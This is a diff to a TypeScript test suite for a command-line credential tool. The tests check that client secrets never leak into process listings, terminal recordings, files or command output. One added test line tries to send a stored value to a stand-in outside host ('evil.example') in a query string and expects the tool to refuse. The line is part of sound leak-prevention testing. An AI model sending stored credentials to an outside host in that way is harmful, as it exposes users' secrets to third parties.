@@ -10,6 +10,7 @@ import { runProgram, startProgram } from '../support/terminal/run-program.ts';
 import { ownFolder } from '../support/terminal/own-folder.ts';
 import type { PseudoTerminal } from '../support/terminal/pseudo-terminal.ts';
 import { holdsSecret, secretForms } from '../support/corpus/secret-forms.ts';
+import { typeYes, typeYesLine } from '../support/terminal/type-yes.ts';
 
 /** Everything that a run must not leave anywhere but where it was asked to. */
 interface Canaries {
@@ -56,6 +57,12 @@ async function approve({
   const { redirect } = await store.approve(opened);
   expect(await visit(redirect)).toBeLessThan(400);
   const { searchParams } = new URL(redirect);
+  // What another program was started with stands in the list of processes.
+  const started = await browser.startedWith();
+  expect(started).toContain('"HOME"');
+  expect(holdsSecret(started, store.app.clientSecret.reveal()), 'in the list of processes').toBe(
+    false,
+  );
   return {
     secret: store.app.clientSecret.reveal(),
     code: searchParams.get('code') ?? '',
@@ -139,7 +146,9 @@ test('the search finds a value in any of its forms', () => {
       expect(holdsSecret(`before ${form} after`, value), form).toBe(true);
     }
   }
-  expect(secretForms(value).every((form) => form.length > 30)).toBe(true);
+  expect(secretForms(value).every((form) => form.length >= 12)).toBe(true);
+  expect(holdsSecret(`it ends in ${value.slice(-12)}`, value.padStart(40, 'x'))).toBe(true);
+  expect(holdsSecret(`prac…${value.slice(-4)}`, value)).toBe(false);
 });
 
 /** Of the plain face, on the way to the approval of one's own store. */
@@ -265,8 +274,8 @@ describe('a recording of one full flow holds no secret, nor does any file but th
       await terminal.waitFor((rows) => asksForRequest(rows) && rows.join('\n').includes(shown));
     }
     terminal.press('wire save tape.md', 'enter');
-    await terminal.waitFor('Write the tape to');
-    terminal.press('y', 'enter');
+    if (style === 'prompts') await typeYes(terminal);
+    else await typeYesLine(terminal, 'Write the tape to');
     await terminal.waitFor('readable by you alone');
     await terminal.waitFor(asksForRequest);
     terminal.press('GET shop.json', 'enter');
@@ -362,6 +371,15 @@ describe('what commands say and write of a store with a name', () => {
       await run(0, ...args);
     // Its port is nobody else's, whatever other tests hold.
     await run(0, 'doctor', '--store', 'tea', '--redirect-uri', world.redirectUri, '--json');
+    for (const args of [
+      ['request', 'GET', 'shop.json'],
+      ['request', 'GET', 'shop.json', '--json'],
+      ['graphql', '{ shop { name } }', '--json'],
+      ['run', '--', process.execPath, '-e', 'process.argv'],
+    ])
+      await run(0, args[0] ?? '', '--store', 'tea', ...args.slice(1));
+    await run(1, 'request', 'GET', 'nothing.json', '--store', 'tea');
+    await run(2, 'request', 'GET', `https://evil.example/?${first[0] ?? ''}`, '--store', 'tea');
     await run(2, 'check', '--store', first[0] ?? '');
     await run(2, 'stores', 'add', first[1] ?? '');
     await run(2, 'stores', 'add', 'two', '--shop', 'demo', '--client-id', first[0] ?? '');
@@ -384,8 +402,10 @@ describe('what commands say and write of a store with a name', () => {
     await run(2, 'stores');
     await run(2, 'check', '--store', 'tea');
     writeFileSync(list, before);
+    await run(0, 'revoke', '--store', 'tea', '--yes', '--json');
     await run(0, 'stores', 'remove', 'tea', '--yes', '--json');
     expect(existsSync(file)).toBe(false);
+    await run(0, 'forget', '--yes', '--json');
     for (const secret of secrets) {
       expect(secret.length).toBeGreaterThan(15);
       expect(said.some((text) => holdsSecret(text, secret))).toBe(false);
